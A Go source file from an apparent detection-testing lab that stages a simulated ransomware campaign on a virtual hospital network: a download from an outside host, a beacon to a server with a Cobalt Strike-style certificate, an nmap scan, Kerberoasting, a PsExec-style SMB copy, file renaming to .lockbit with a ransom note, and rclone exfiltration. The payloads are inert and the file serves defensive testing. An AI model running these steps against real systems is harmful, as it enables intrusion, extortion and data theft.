package lab

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"time"

	"bulwark/content/playbooks"
)

// stage is a part of an attack, and the shipped rules of which one at least must tell of it. It is played from an office PC;
// outside is the address of whoever steers it.
type stage struct {
	name  string
	rules []string
	// answer is the playbook that isolates who does it; empty: there is none.
	answer string
	play   func(ctx context.Context, h *Hospital, pc, outside string) error
}

// campaign is how ransomware comes to a hospital, in the order of the issue that asks for it. Servers that are sound refuse what a
// real intruder would exploit; the rest is what intruders do with programs that anybody has.
var campaign = [...]stage{
	{"download from a cloud app", []string{"1:9000709"}, "", fetchProgram},
	{"beacon", []string{"1:9000910"}, "", beacon},
	{"scan", []string{"1:9000401", "1:9000402", "1:9000404"}, "", scanServers},
	{"Kerberos abuse", []string{"1:9000506", "1:9000620", "1:9000621"}, "compromised-account", roastTickets},
	{"lateral movement", []string{"1:9000616", "1:9000605", "1:9000705"}, "", moveOn},
	{"ransomware on a share", []string{"1:9000701", "1:9000702", "1:9000703", "1:9000704", "1:9000706"}, "ransomware", encryptShare},
	{"exfiltration", []string{"1:9000801", "1:9000802"}, "image-theft", carryOut},
}

// steerPort is where whoever steers the program listens, and cloudPath what the office PC is led to fetch.
const (
	steerPort = 8443
	cloudPath = "s/aB3dE5fG7hJ9kL1/download"
)

// program is a file that begins as programs of Windows do, and does nothing.
func program() string {
	return "MZ" + strings.Repeat("\x90", 76) + "This program cannot be run in DOS mode.\r\r\n$" + strings.Repeat("\x00", 40) + "PE\x00\x00" + strings.Repeat("lab ", 200)
}

// outsideAddr is the n-th address of those who steer programs from outside.
func outsideAddr(n int) string { return fmt.Sprintf("198.51.100.%d", 100+n) }

// officeStation is where the n-th office PC stands.
func officeStation(n int) station {
	return station{fmt.Sprint("pc", n), fmt.Sprintf("3c:d9:2b:20:06:%02x", 10+n), fmt.Sprintf("10.20.6.%d", 10+n)}
}

// prepare plugs the office PCs in, and makes ready what the intruders need: addresses outside, a server that steers, services with
// old ciphers.
func (h *Hospital) prepare(ctx context.Context, pcs, outside int) error {
	for n := range pcs {
		s := officeStation(n)
		if _, err := h.AddHost(s.name, s.mac, prefixOf(s), addrOf("gateway"), addrOf("names")); err != nil {
			return err
		}
	}
	internet := h.Host(internetName)
	for n := range outside {
		if err := ip("-n", internet.ns, "addr", "add", outsideAddr(n)+"/24", "dev", "eth0"); err != nil {
			return err
		}
	}
	if _, err := internet.write(filepath.Join("www", cloudPath), program()); err != nil {
		return err
	}
	subject := "/ST=Cyberspace/L=Somewhere/O=cobaltstrike/OU=AdvancedPenTesting/CN=Major Cobalt Strike"
	if _, err := internet.Run(ctx, "openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj", subject, "-keyout", "steer.key", "-out", "steer.crt"); err != nil {
		return err
	}
	if err := h.listenForReports(internet); err != nil {
		return err
	}
	dc := h.Host("dc")
	for n := range 6 {
		if _, err := dc.krb(ctx, "kadmin.local", "addprinc", "-randkey", "-e", "arcfour-hmac:normal", fmt.Sprintf("old%d/files.%s", n, Domain)); err != nil {
			return err
		}
	}
	return nil
}

// listenForReports has a host listen to what programs report.
func (h *Hospital) listenForReports(host *Host) error {
	pair, err := tls.LoadX509KeyPair(filepath.Join(host.dir, "steer.crt"), filepath.Join(host.dir, "steer.key"))
	if err != nil {
		return err
	}
	l, err := host.Listen(steerPort)
	if err != nil {
		return err
	}
	s := &http.Server{ReadHeaderTimeout: soon, ErrorLog: log.New(io.Discard, "", 0), TLSConfig: &tls.Config{Certificates: []tls.Certificate{pair}, MaxVersion: tls.VersionTLS12}}
	h.clinical.web = append(h.clinical.web, s)
	h.clinical.wait.Go(func() { s.ServeTLS(l, "", "") }) //nolint:errcheck // it ends with Close
	return nil
}

func fetchProgram(ctx context.Context, h *Hospital, pc, outside string) error {
	return h.Host(pc).attempt(ctx, "curl", "-s", "-m", "5", "-o", "invoice.exe", "http://"+outside+"/"+cloudPath)
}

// beacon has the program ask for orders; it may be cut off already.
func beacon(ctx context.Context, h *Hospital, pc, outside string) error {
	_ = h.asksForOrders(ctx, pc, outside)
	return ctx.Err()
}

// asksForOrders is one call of a program to who steers it.
func (h *Hospital) asksForOrders(ctx context.Context, pc, outside string) error {
	ctx, cancel := context.WithTimeout(ctx, soon)
	defer cancel()
	c, err := h.Host(pc).Dial(ctx, "tcp4", net.JoinHostPort(outside, fmt.Sprint(steerPort)))
	if err != nil {
		return err
	}
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, MaxVersion: tls.VersionTLS12}) // nobody who is steered looks at certificates
	return errors.Join(t.HandshakeContext(ctx), c.Close())
}

func scanServers(ctx context.Context, h *Hospital, pc, _ string) error {
	return h.Host(pc).attempts(ctx, "nmap", "-n -Pn -sS -T4 --max-retries 1 --host-timeout 15s -p 1-400 "+addrOf("files").String()+" "+addrOf("dc").String())
}

// roastTickets asks the directory for accounts of services, and the domain controller for their tickets.
func roastTickets(ctx context.Context, h *Hospital, pc, _ string) error {
	host := h.Host(pc)
	err := host.attempts(ctx, "ldapsearch", "-o nettimeout=5 -x -H ldap://"+addrOf("dc").String()+" -b dc=hospital,dc=example (&(samAccountType=805306368)(servicePrincipalName=*)) cn")
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(ctx, 2*soon) // it may be cut off on the way
	defer cancel()
	if err := host.logIn(ctx, nurse); err != nil {
		return refused(err)
	}
	var services []string
	for n := range 6 {
		services = append(services, fmt.Sprintf("old%d/files.%s", n, Domain))
	}
	_, err = host.krb(ctx, "kvno", services...)
	return refused(err)
}

// refused takes it that a program was told no, or heard nothing.
func refused(err error) error {
	var exit *exec.ExitError
	if errors.As(err, &exit) || errors.Is(err, context.DeadlineExceeded) {
		return nil
	}
	return err
}

// moveOn copies a program to the administrators share of a server, as PsExec does.
func moveOn(ctx context.Context, h *Hospital, pc, _ string) error {
	host := h.Host(pc)
	if _, err := host.write("svc.exe", program()); err != nil {
		return err
	}
	return host.attempt(ctx, "smbclient", smbArgs("C$", nurse, "put svc.exe PSEXESVC.exe; rm PSEXESVC.exe")...)
}

// encryptShare does to a folder of the ward's share what ransomware does to all of it.
func encryptShare(ctx context.Context, h *Hospital, pc, _ string) error {
	host := h.Host(pc)
	for name, text := range map[string]string{"HOW_TO_DECRYPT_FILES.txt": "pay us", "report.txt": "a report"} {
		if _, err := host.write(name, text); err != nil {
			return err
		}
	}
	dir := "held-" + pc
	commands := []string{"mkdir " + dir, "put HOW_TO_DECRYPT_FILES.txt " + dir + "/HOW_TO_DECRYPT_FILES.txt"}
	for i := range 6 {
		commands = append(commands, fmt.Sprintf("put report.txt %s/r%d.docx", dir, i), fmt.Sprintf("rename %[1]s/r%[2]d.docx %[1]s/r%[2]d.docx.lockbit", dir, i))
	}
	return host.attempt(ctx, "smbclient", append(smbArgs("ward", nurse, strings.Join(append(commands, "deltree "+dir), "; ")), "-t", "10")...)
}

func carryOut(ctx context.Context, h *Hospital, pc, outside string) error {
	host := h.Host(pc)
	return host.attempts(ctx, "rclone", "--contimeout 5s --timeout 5s --retries 1 --low-level-retries 1 --config "+host.dir+"/rclone.conf lsd :webdav: --webdav-url http://"+outside+"/dav")
}

// shorterPlaybooks are the shipped playbooks, but for how long they contain: a minute, so that the lab sees the end of it. They are
// files of the hospital's own, below the data folder.
func shorterPlaybooks() map[string]string {
	all := map[string]string{}
	for _, f := range playbooks.Load(nil) {
		all[filepath.Join("playbooks", f.Name)] = minutes.ReplaceAllString(f.Text, "minutes: 1")
	}
	return all
}

var minutes = regexp.MustCompile(`minutes: \d+`)

// percentile95 is the value that 95 of 100 do not pass.
func percentile95(all []time.Duration) time.Duration {
	if len(all) == 0 {
		return 0
	}
	slices.Sort(all)
	return all[(len(all)*95+99)/100-1]
}
